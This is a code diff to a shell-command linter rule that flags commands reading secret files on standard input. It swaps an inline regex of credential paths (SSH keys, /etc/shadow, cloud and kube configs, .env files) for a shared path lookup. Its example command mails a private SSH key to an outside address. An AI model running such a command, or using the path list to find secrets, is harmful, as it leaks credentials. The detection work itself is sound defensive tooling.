@@ -6,8 +6,6 @@ command that does not name it as an argument, so checks that look at arguments m
 
 from __future__ import annotations
 
-import re
-
 from ....model import Finding, Severity
 
 ID = "SH009"
@@ -17,28 +15,25 @@ EXAMPLE = "mail someone@example.com < ~/.ssh/id_rsa"
 BENIGN = "wc -l < README.md"
 TRIGGER = ("<",)
 
-#: Paths (as written, ``~`` for home) whose content is secret.
-SENSITIVE = re.compile(
-    r"""(?x)
-    ^/etc/(?:shadow|gshadow|sudoers|master\.passwd|passwd|security/opasswd)$
-    | (?:^|/)\.ssh/
-    | (?:^|/)id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$
-    | (?:^|/)\.aws/(?:credentials|config)$
-    | (?:^|/)\.env(?:\.[\w.-]+)?$ | (?:^|/)\.envrc$
-    | (?:^|/)\.(?:netrc|pgpass|npmrc|pypirc|git-credentials|bash_history|zsh_history)$
-    | (?:^|/)\.docker/config\.json$ | (?:^|/)\.kube/config$ | (?:^|/)\.gnupg/
-    | (?:^|/)\.config/gh/hosts\.yml$ | (?:^|/)\.config/gcloud/
-    | ^/proc/[^/]+/environ$
-    | \.(?:pem|key|p12|pfx|jks|keystore)$
-    | (?:^|/)(?:credentials|secrets?)\.(?:json|ya?ml|toml|txt)$
-    """
-)
+
+def _secret(target: str) -> bool:
+    """Whether the file, as written, is a secret by the path table (``~`` is any home;
+    a relative path is judged by its names)."""
+    from ....paths.match import secret_level
+
+    if target.startswith("~/"):
+        path = "/root/" + target[2:]
+    elif target.startswith("/"):
+        path = target
+    else:
+        path = "/./" + target
+    return secret_level(path, "") > 0
 
 
 def check(source: str, view) -> list[Finding]:
     found: list[Finding] = []
     for cmd in view.commands:
         for redirect in cmd.redirects:
-            if redirect.op in ("<", "<>") and SENSITIVE.search(redirect.target):
+            if redirect.op in ("<", "<>") and _secret(redirect.target):
                 found.append(Finding(ID, Severity.HIGH, f"reads {redirect.target!r} on stdin"))
     return found
